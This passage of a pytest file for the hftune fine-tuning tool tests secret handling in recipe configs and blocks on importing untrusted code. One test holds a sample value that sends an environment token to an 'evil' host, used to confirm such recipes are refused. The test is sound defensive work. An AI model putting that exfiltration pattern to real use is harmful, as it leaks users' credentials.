        "task.model=outputs/chats_demo/model: there is no such folder. Recipe chats_demo trains such a model: hftune train "
        "recipe=chats_demo"
    )


# Numbers that YAML 1.1 reads differently


# Secrets


@pytest.fixture
def secret(monkeypatch) -> str:
    monkeypatch.setenv("A_TOKEN", "s3cr3t")
    return "s3cr3t"


def test_a_text_from_the_environment_is_used_and_written_nowhere(plain, secret, write):
    recipe = Recipe.load(
        plain,
        "track.run_name=${oc.env:A_TOKEN}",
        "track.project=${track.run_name}-project",
        "track.with=[wandb,'${oc.decode:tensorboard}']",
        "task.data_files.train=https://host/${oc.env:A_TOKEN}",
        "task.data_files.eval=eval.jsonl",
    )
    assert (recipe.track.run_name, recipe.track.project) == (secret, f"{secret}-project")
    assert recipe.task.data_files["train"] == f"https://host/{secret}"
    assert secret not in recipe.to_yaml() and secret not in str(recipe.to_dict()) and secret not in repr(recipe.source.origins)
    assert {key: recipe.to_dict()["track"][key] for key in ("with", "project", "run_name")} == {
        "with": ["wandb", "${oc.decode:tensorboard}"],
        "project": "${track.run_name}-project",
        "run_name": "${oc.env:A_TOKEN}",
    }
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


def test_a_secret_in_the_wrong_place_is_not_shown(plain, secret):
    assert refusal(f"recipe={plain}", "train.lr=${oc.env:A_TOKEN}").endswith("refers to has the wrong type.")
    assert refusal(f"recipe={plain}", "train.lr=${oc.env:NO_SUCH}") == "train.lr: the environment variable NO_SUCH is not set."


def test_a_number_from_the_environment_is_written_as_it_was_used(plain, monkeypatch):
    monkeypatch.setenv("SIZE", "16")
    recipe = Recipe.load(plain, "train.batch_size=${oc.env:SIZE}", "track.run_name=${oc.env:SIZE}")
    assert recipe.to_dict()["train"]["batch_size"] == 16
    assert recipe.to_dict()["track"]["run_name"] == "${oc.env:SIZE}"


def test_a_value_replaced_later_is_written_as_it_is(plain, secret):
    recipe = replace(Recipe.load(plain, "output_dir=/scratch/${oc.env:A_TOKEN}"), output_dir="/elsewhere")
    assert recipe.to_dict()["output_dir"] == "/elsewhere"


def test_processes_with_different_environments_are_told_apart_by_digests(plain, secret, monkeypatch):
    word = "task.text_column=${oc.env:A_TOKEN}"
    here = Recipe.load(plain, word)
    monkeypatch.setenv("A_TOKEN", "other")
    there = Recipe.load(plain, word)
    assert here.to_dict() == there.to_dict()
    assert here.environment_digests() != there.environment_digests()
    assert list(here.environment_digests()) == ["task.text_column (from the environment)"]
    assert secret not in str(here.environment_digests())


def test_spark_tasks_get_the_variables_that_a_recipe_names(plain, secret):
    from hftune.launchers.spark import environment

    assert environment(Recipe.load(plain, "track.run_name=${oc.env:A_TOKEN}"), use_gpu=True)["A_TOKEN"] == secret
    assert "A_TOKEN" not in environment(Recipe.load(plain), use_gpu=True)


# Code that is not hftune's


BAD_MODULES = {
    "leaves": (
        "import sys\nsys.exit(0)\n",
        "importing leaves calls sys.exit(0); move the code that it runs under if __name__ == '__main__': ({path}, line 2)",
    ),
    "broken": ("def f(:\n", "invalid syntax (broken.py, line 1)"),
    "raises": ("raise RuntimeError('no GPU')\n", "RuntimeError: no GPU ({path}, line 1)"),
}


@pytest.mark.parametrize("name", BAD_MODULES)
@pytest.mark.parametrize("key", ["task.type", "task.network", "task.dataset"])
def test_a_module_that_does_something_else_on_import_is_named_with_its_key(write, plain, tmp_path, monkeypatch, name, key):
    text, reason = BAD_MODULES[name]
    path = write(f"{name}.py", text)
    monkeypatch.syspath_prepend(tmp_path)
    with pytest.raises(ConfigError) as caught:
        import_named(key, f"{name}.Thing", name, "Thing")
    assert str(caught.value) == f"{key}={name}.Thing cannot be imported: {reason.format(path=path)}."


def test_a_task_file_that_exits_ends_with_exit_code_2(write, capsys):
    write("leaves_at_once.py", "import sys\nsys.exit(0)\n")
    assert run.main([f"recipe={write('mine.yaml', 'task: {type: leaves_at_once.Mine}')}"]) == 2
    assert capsys.readouterr().err.startswith(
        "hftune: task.type=leaves_at_once.Mine cannot be imported: importing leaves_at_once"
    )


@pytest.fixture
def elsewhere(tmp_path, monkeypatch) -> None:
    """Start in a folder that holds no recipe, with a path that is given back."""
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    monkeypatch.setattr(sys, "path", [*sys.path])


def test_a_task_is_found_next_to_its_recipe(write, elsewhere):
    write("task_beside.py", OWN_TASKS)
    path = write("mine.yaml", "task: {type: task_beside.Tuned, path: a}")
    assert Recipe.load(path).task.path == "a"
    assert sys.path[-1] == str(path.parent)  # last: it hides nothing
    above = write("elsewhere/above.yaml", "base: ../mine.yaml")
    assert Recipe.load(above).task.path == "a"


def test_a_function_that_returns_rows_is_found_next_to_its_recipe(write, elsewhere):
    write("rows_beside.py", "def rows(part):\n    return [{'text': part, 'label': 0}]\n")
    text = PLAIN.replace("hftune.data.demo:reviews", "rows_beside:rows")
    recipe = Recipe.load(write("mine.yaml", text))
    from hftune.data.rows import load_split

    assert load_split(recipe.task.source, "train")["text"] == ["train"]


def test_a_recipe_of_hftune_s_own_code_leaves_the_path_alone(plain, elsewhere):
    before = list(sys.path)
    Recipe.load(plain)
    assert sys.path == before


def test_a_module_next_to_the_recipe_that_python_would_not_import_is_refused(write, elsewhere):
    beside = write("yaml.py", OWN_TASKS)
    path = write("mine.yaml", "task: {type: yaml.Tuned, path: a}")
    assert refusal(f"recipe={path}") == (
        f"task.type=yaml.Tuned: {beside} is next to the recipe, but Python imports {yaml.__file__} as yaml. Rename your module."
    )


TRUST = "Add --trust-code (in Python: trust_code=True) if you trust whoever wrote it."


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("task: {type: payload.Evil}", "task.type=payload.Evil"),
        (PLAIN.replace("hftune.data.demo:reviews", "payload:rows"), "task.dataset=payload:rows"),
        ("task: {type: ImageRestoration, network: payload.Net}", "task.network=payload.Net"),
        (f"{PLAIN}train: {{optimizer: payload.Lion}}", "train.optimizer=payload.Lion"),
        (
            f"{PLAIN}train: {{optimizer: torch.optim.lr_scheduler.LambdaLR}}",
            "train.optimizer=torch.optim.lr_scheduler.LambdaLR",
        ),
        (f"{PLAIN}train: {{schedule: payload.f}}", "train.schedule=payload.f"),
        (f"{PLAIN}eval: {{metrics: [payload.f]}}", "eval.metrics=payload.f"),
        (f"{PLAIN}eval: {{metrics: [somebody/metric]}}", "eval.metrics=somebody/metric"),
        (f"{PLAIN}track: {{with: [payload.Tracker]}}", "track.with=payload.Tracker"),
    ],
)
def test_code_of_a_recipe_that_is_not_trusted_is_not_imported(write, elsewhere, text, named):
    write("payload.py", "raise SystemExit('imported')\n")
    write("elsewhere/payload.py", "raise SystemExit('imported')\n")
    path = write("recipe.yaml", text)
    with pytest.raises(ConfigError) as caught:
        Recipe.load(path, trust_code=False)
    assert str(caught.value) == f"{named} ({path}) is not hftune's own code, and importing it would run it. {TRUST}"
    assert "payload" not in sys.modules


def test_torchs_own_optimizers_need_no_trust(write):
    path = write("recipe.yaml", f"{PLAIN}train: {{optimizer: torch.optim.RMSprop}}")
    assert Recipe.load(path, trust_code=False).train.optimizer == "torch.optim.RMSprop"


def test_a_task_may_be_made_by_a_function(write, elsewhere):
    """Its class has no name that pickle could find it by."""
    task = "from dataclasses import dataclass\nfrom hftune.tasks import SequenceClassification\n"
    task += "def make():\n    @dataclass\n    class Own(SequenceClassification):\n        size: int = 3\n    return Own\nMade = make()\n"
    write("made_by_function.py", task)
    path = write("mine.yaml", "task: {type: made_by_function.Made, model: null, dataset: hftune.data.demo:reviews}")
    assert [Recipe.load(path, *words).task.size for words in ((), ("task.size=5",), ())] == [3, 5, 3]


@pytest.mark.parametrize(
    ("section", "name"),
    [
        ("train: {optimizer: code_beside.Lion}", "code_beside"),
        ("train: {schedule: code_beside.f}", "code_beside"),
        ("eval: {metrics: [code_beside.f]}", "code_beside"),
        ("track: {with: [code_beside.Tracker]}", "code_beside"),
    ],
)
def test_code_of_every_section_is_found_next_to_its_recipe(write, elsewhere, section, name):
    write(f"{name}.py", "Lion = Tracker = f = 1\n")
    path = write("mine.yaml", PLAIN + section)
    Recipe.load(path)
    assert sys.path[-1] == str(path.parent)


def test_code_that_is_named_on_the_command_line_is_meant(plain, own_tasks):
    assert Recipe.load(plain, "task.dataset=own_tasks:rows", trust_code=False).task.dataset == "own_tasks:rows"


def test_a_recipe_of_hftune_s_own_code_needs_no_trust(plain):
    assert Recipe.load(plain, trust_code=False) == Recipe.load(plain)


@pytest.mark.parametrize(
    "text",
    [
        PLAIN,
        f"{PLAIN}train: {{optimizer: torch.optim.RMSprop}}",
        f"{PLAIN}track: {{project: '${{oc.env:A_TOKEN}}'}}",
        "task: {type: code_beside.Own, model: null, dataset: hftune.data.demo:reviews}",
        PLAIN.replace("hftune.data.demo:reviews", "code_beside:f"),
        f"{PLAIN}train: {{optimizer: code_beside.f}}",
        f"{PLAIN}train: {{schedule: code_beside.f}}",
        f"{PLAIN}eval: {{metrics: [accuracy_of_someone]}}",
        "task: {type: SequenceClassification, model: null, dataset: '${oc.env:A_TOKEN}'}",
    ],
)
def test_a_recipe_says_whether_it_is_refused_without_trust(write, elsewhere, secret, text, monkeypatch):
    monkeypatch.delitem(sys.modules, "code_beside", raising=False)
    task = "from dataclasses import dataclass\nfrom hftune.tasks import SequenceClassification\n"
    task += "@dataclass\nclass Own(SequenceClassification): pass\n"
    write("code_beside.py", task + "def f(split): return []\n")
    recipe = Recipe.load(write("recipe.yaml", text))
    saved = write("saved.yaml", recipe.to_yaml())
    try:
        Recipe.load(saved, trust_code=False)
    except ConfigError as error:
        assert "trust" in str(error) and recipe.needs_trust()
    else:
        assert not recipe.needs_trust()


def test_a_recipe_that_is_not_trusted_puts_no_secret_into_its_task(write, secret):
    text = "task: {type: SequenceClassification, model: null, dataset: 'https://evil/?${oc.env:A_TOKEN}'}"
    path = write("recipe.yaml", text)
    with pytest.raises(ConfigError) as caught:
        Recipe.load(path, trust_code=False)
    assert str(caught.value) == f"The task of {path} refers to environment variables, which can be secrets. {TRUST}"
    hidden = write(
        "hidden.yaml", text.replace("${oc.env:A_TOKEN}", "${track.project}") + "\ntrack: {project: '${oc.env:A_TOKEN}'}"
    )
    with pytest.raises(ConfigError, match="refers to environment variables"):
        Recipe.load(hidden, trust_code=False)


# What is imported


@pytest.mark.parametrize("name", ["hftune.launchers.quietly:main", "hftune.cli:main", "hftune.databases:x"])
def test_not_everything_of_hftune_is_data_that_a_recipe_may_call(plain, name):
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, f"task.dataset={name}").to_yaml()
        (path := plain.with_name("foreign.yaml")).write_text(plain.read_text().replace("hftune.data.demo:reviews", name))
        Recipe.load(path, trust_code=False)
    assert "--trust-code" in str(caught.value)
